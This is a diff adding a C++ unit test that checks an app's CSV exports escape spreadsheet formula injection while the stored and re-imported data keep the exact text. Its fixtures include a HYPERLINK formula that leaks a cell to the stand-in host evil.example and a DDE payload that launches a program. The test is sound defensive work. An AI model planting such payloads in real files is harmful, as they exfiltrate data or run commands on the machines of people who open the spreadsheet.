@@ -4,6 +4,7 @@
 
 #include <iostream>
 #include <map>
+#include <set>
 #include <sstream>
 
 #include "app/hub/hub_command_line.hpp"
@@ -68,6 +69,86 @@ CommandRun run_command(std::vector<std::string> args) {
 }
 
 }  // namespace
+
+TEST_CASE("cells a spreadsheet would run as formulas are exported as text; the data keeps them") {
+  test::TempDir dir;
+  test::EventScript script(72);
+  auto source = test::open_store(dir / "source.db");
+  test::append_all(*source, script.set_up(3), 30);
+  const std::vector<std::string> hostile = {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                                            "+cmd|' /C calc'!A0",
+                                            "-2+3",
+                                            "@SUM(A1:A9)",
+                                            "'=already quoted",
+                                            "-(1)",
+                                            "'plain apostrophe"};
+  std::vector<core::ParticipantId> people;
+  for (std::size_t i = 0; i + 1 < hostile.size(); i += 2) {
+    core::Profile p = script.fresh_profile();
+    p.display_name = hostile[i];
+    p.organisation = hostile[i + 1];
+    const auto r = script.must(test::newcomer(), core::Register{.profile = p});
+    test::append_all(*source, {r});
+    people.push_back(std::get<core::Register>(r.payload).participant);
+  }
+  // The database keeps the exact text.
+  auto loaded = source->load();
+  REQUIRE(loaded.ok());
+  for (std::size_t i = 0; i < people.size(); ++i) {
+    const auto& p = loaded->state.participants.at(people[i]).profile;
+    CHECK(p.display_name == hostile[2 * i]);
+    CHECK(p.organisation == hostile[2 * i + 1]);
+  }
+
+  const std::string exported = storage::participants_csv(loaded->state);
+  auto records = storage::parse_csv(exported);
+  REQUIRE(records.ok());
+  std::map<std::string, std::pair<std::string, std::string>> cells;  // id -> name, organisation
+  for (const auto& r : *records) cells[r.fields[0]] = {r.fields[2], r.fields[3]};
+  const auto cell = [&](std::size_t person, bool organisation) {
+    const auto& c = cells.at(std::to_string(people[person]));
+    return organisation ? c.second : c.first;
+  };
+  CHECK(cell(0, false) == "'" + hostile[0]);
+  CHECK(cell(0, true) == "'" + hostile[1]);
+  CHECK(cell(1, false) == "'" + hostile[2]);
+  CHECK(cell(1, true) == "'" + hostile[3]);
+  CHECK(cell(2, false) == "''=already quoted");
+  CHECK(cell(2, true) == "'-(1)");
+  // No cell of any export starts with a character a spreadsheet reads as a formula.
+  for (const std::string& csv :
+       {exported, storage::meetings_csv(loaded->state), storage::teams_csv(loaded->state)}) {
+    auto parsed = storage::parse_csv(csv);
+    REQUIRE(parsed.ok());
+    for (const auto& r : *parsed)
+      for (const auto& f : r.fields)
+        CHECK_MESSAGE((f.empty() || std::string_view("=+-@\t\r").find(f[0]) == std::string::npos),
+                      f);
+  }
+  // Tabs and carriage returns cannot be in a profile's text, but a cell starting with one is
+  // neutralised too.
+  CHECK(storage::csv_cell("\tx") == "'\tx");
+  CHECK(storage::csv_cell("\r=1") == "'\r=1");
+  CHECK(storage::csv_cell_value("'\tx") == "\tx");
+  CHECK(storage::csv_cell("'plain apostrophe") == "'plain apostrophe");
+  CHECK(storage::csv_cell_value("'plain apostrophe") == "'plain apostrophe");
+
+  // Imported back, the people have their exact text again.
+  auto target = empty_event(dir / "target.db");
+  auto result = storage::import_participants(*target, test::taxonomy(), exported, kNow);
+  REQUIRE(result.ok());
+  auto imported = target->load();
+  REQUIRE(imported.ok());
+  std::set<std::string> names, organisations;
+  for (const auto& [id, p] : imported->state.participants) {
+    names.insert(p.profile.display_name);
+    organisations.insert(p.profile.organisation);
+  }
+  for (std::size_t i = 0; i + 1 < hostile.size(); i += 2) {
+    CHECK(names.count(hostile[i]) == 1);
+    CHECK(organisations.count(hostile[i + 1]) == 1);
+  }
+}
 
 TEST_CASE("an export of participants imports into another event as the same people") {
   test::TempDir dir;
